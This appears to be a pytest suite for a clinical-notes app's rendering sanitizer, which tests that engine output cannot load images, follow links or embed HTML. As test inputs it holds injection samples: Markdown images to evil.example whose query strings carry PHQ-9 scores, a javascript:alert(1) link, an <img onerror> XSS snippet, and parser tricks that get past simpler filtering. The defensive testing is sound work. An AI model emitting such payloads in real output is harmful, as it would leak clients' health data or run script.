"""Rendering safety: engine output cannot load or link remote content, and clinical Markdown survives."""

import re

import pytest
from markdown_it import MarkdownIt

from core import charts, sources
from core.engines.offline import OfflineEngine
from core.safety import WORD_JOINER as WJ
from core.safety import neutralize_markdown, shown


@pytest.mark.parametrize(
    "text,expected",
    [
        ("Mood ![chart](https://evil.example/x.png?d=PHQ-9%2014) improved.", "Mood chart improved."),
        ("See ![](http://evil.example/t.gif) it.", "See  it."),
        ("![alt][img]\n\n[img]: https://evil.example/i.png", "alt\n\n"),
        ("[weekly sessions](https://evil.example/login) held", "weekly sessions held"),
        ("[the [plan] review](javascript:alert(1)) done", "the [plan] review done"),
        ("[![badge](http://e.example/b.svg)](http://e.example)", "badge"),
        ("Visit <https://evil.example/a?b=c> or <someone@evil.example>.", "Visit  or ."),
        ("<img src=x onerror=alert(1)>Stable<br/> mood <b>today</b>", "Stable mood today"),
        ('<a href="https://evil.example">plan</a> <!-- hidden -->', "plan "),
        ("<iframe\nsrc='https://evil.example'></iframe>text", "text"),
    ],
)
def test_images_links_and_html_are_neutralized(text, expected):
    assert neutralize_markdown(text) == expected


def test_clinical_markdown_is_left_alone():
    text = (
        "## Measurement-based outcomes\n\n| Measure | First | Latest |\n|---|---|---|\n| PHQ-9 | 14 | 6 |\n\n"
        "- PHQ-9 < 10 at discharge; GAD-7 3<5\n1. Goal [N00123] met\n\n*Reliable improvement* and `code`.\n"
    )
    assert neutralize_markdown(text) == text


def test_no_pattern_crosses_a_blank_line():
    text = "[first part\n\nsecond](http://e.example) and <div\n\nclass=x>"
    per_paragraph = "\n\n".join(neutralize_markdown(p) for p in text.split("\n\n"))
    assert neutralize_markdown(text) == per_paragraph
    assert "<div" not in neutralize_markdown(text)


def test_the_offline_engine_neutralizes_its_output_too(practice):
    client_id = next(r.id for r in practice.store.client_rows() if r.full_name == "Zoë Ñúñez")
    first, last = practice.store.chart_span(client_id)
    sel = sources.require_sufficient(charts.selection(practice, client_id, first, last))
    edited = "## Identifying context\n\nSee ![x](https://evil.example/p.png) and [notes](https://evil.example).\n"
    assert OfflineEngine().refine(sel, edited, "paragraphs").text == "## Identifying context\n\nSee x and notes.\n"


# -- shown: any text the app did not write, as given to Streamlit ---------------------------------------------

# The GFM autolink literals of Streamlit's renderer (remark-gfm, which matches them in the parsed text, so a
# backslash escape does not stop them), as in its bundle.
GFM_URL = re.compile(r"(https?://|www(?=\.))([-.\w]+)", re.IGNORECASE)
GFM_EMAIL = re.compile(r"([-.\w+]+)@([-\w]+(?:\.[-\w]+)+)")


def live(text: str) -> list[str]:
    """What a CommonMark parser would load or link in the text, and the autolink literals GFM would add."""
    found: list[str] = []

    def walk(tokens) -> None:
        for t in tokens:
            if t.type in ("image", "link_open", "html_inline", "html_block"):
                found.append(t.type)
            walk(t.children or [])

    walk(MarkdownIt("commonmark").parse(text))
    return found + [m[0] for m in GFM_URL.finditer(text)] + [m[0] for m in GFM_EMAIL.finditer(text)]


@pytest.mark.parametrize(
    "text,expected",
    [
        ("Seen at https://evil.example/a?d=PHQ-9 today", f"Seen at https:{WJ}//evil.example/a?d=PHQ-9 today"),
        ("See www.evil.example or WWW.Evil.Example/x", f"See www{WJ}.evil.example or WWW{WJ}.Evil.Example/x"),
        ("Write to zoe.n+1@evil.example", f"Write to zoe.n+1@{WJ}evil.example"),
        ("Mood ![chart](https://evil.example/x.png?d=1) improved", "Mood chart improved"),
        ("[plan](https://evil.example) review <https://evil.example/a>", "plan review "),
    ],
)
def test_shown_defuses_images_links_and_bare_addresses(text, expected):
    assert shown(text) == expected
    assert live(shown(text)) == []


@pytest.mark.parametrize(
    "text",
    [
        "![x](\nhttps://evil.example/p.png)",  # a line break before the destination
        "![x](https://evil.example/p.png?((a)))",  # parentheses two deep
        "!<!---->[x]<!---->(https://evil.example/p.png)",  # syntax joined when the comments go
        "![x]\n\n> [x]: https://evil.example/p.png",  # a definition in a block quote
        "![x]\n\n[x]:\nhttps://evil.example/p.png",  # a definition with its destination on the next line
        "- [x]: https://evil.example/p.png\n\n![x]",  # a definition in a list item
    ],
)
def test_shown_defuses_what_neutralizing_alone_leaves(text):
    assert "image" in live(neutralize_markdown(text))
    assert live(shown(text)) == []


def test_shown_leaves_clinical_markdown_alone():
    text = (
        "## Measurement-based outcomes\n\n**Bold** and *italic*; `code`.\n\n| Measure | First | Latest |\n"
        "|---|---|---|\n| PHQ-9 | 14 | 6 |\n\n- PHQ-9 < 10 at discharge; GAD-7 3<5\n1. Goal [N00123] met\n"
        '\n> Client: "I sleep better." Next session 2024-05-01 at 10:30.\n'
    )
    assert shown(text) == text
    assert shown("") == ""


def test_shown_twice_is_shown_once():
    text = "![x](https://e.example/p.png) https://e.example www.e.example a@e.example [x]: y ![y]"
    assert shown(shown(text)) == shown(text)
